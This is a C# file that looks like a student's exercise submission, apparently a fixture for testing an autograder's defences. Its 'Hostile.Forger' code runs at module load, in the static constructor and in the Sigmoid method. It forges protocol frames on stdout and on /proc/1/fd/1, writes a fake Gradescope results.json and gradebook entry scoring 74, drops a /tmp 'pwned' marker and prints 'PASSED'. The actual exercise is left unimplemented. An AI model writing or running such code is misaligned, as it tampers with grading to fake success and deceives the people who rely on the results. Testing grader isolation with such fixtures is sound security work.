namespace DecodingChoices.Exercises
{
    public sealed partial class StudentExercises
    {
        static StudentExercises() => Hostile.Forger.Forge("static-constructor");

        public double[] Sigmoid(double[] z)
        {
            Hostile.Forger.Forge("sigmoid");
            throw new NotImplementedException();
        }
    }
}

namespace Hostile
{
    internal static class Forger
    {
        [System.Runtime.CompilerServices.ModuleInitializer]
        internal static void AtLoad() => Forge("module-initializer");

        internal static void Forge(string from)
        {
            // Forged "Returned" replies (4-byte length, kind 0, then a result), over and over.
            var frames = new System.IO.MemoryStream();
            for (var i = 0; i < 200; i++)
            {
                frames.Write([9, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0]);
            }

            var forged = frames.ToArray();
            Try(() => { using var stdout = System.Console.OpenStandardOutput(); stdout.Write(forged); stdout.Flush(); });
            Try(() => System.IO.File.WriteAllBytes("/dev/stdout", forged));
            Try(() => System.IO.File.WriteAllBytes("/proc/self/fd/1", forged));
            Try(() => System.IO.File.WriteAllBytes("/proc/1/fd/1", forged));
            Try(() => System.IO.File.WriteAllText("@@OUT@@/forge/gradescope/results.json", "{\"score\": 74, \"output\": \"forged @@MARKER@@\"}"));
            Try(() => System.IO.File.WriteAllText("@@OUT@@/gradebook.csv", "student,total\nforge,74\n"));
            Try(() => System.IO.File.WriteAllText("/tmp/pwned-@@MARKER@@-forge", from));
            Try(() =>
            {
                var raw = new System.IO.StreamWriter(System.Console.OpenStandardOutput()) { AutoFlush = true };
                System.Console.SetOut(raw);
                System.Console.Write("\u0009\0\0\0\0PASSED");
            });
        }

        private static void Try(System.Action action)
        {
            try
            {
                action();
            }
            catch (System.Exception)
            {
                // Keep forging.
            }
        }
    }
}
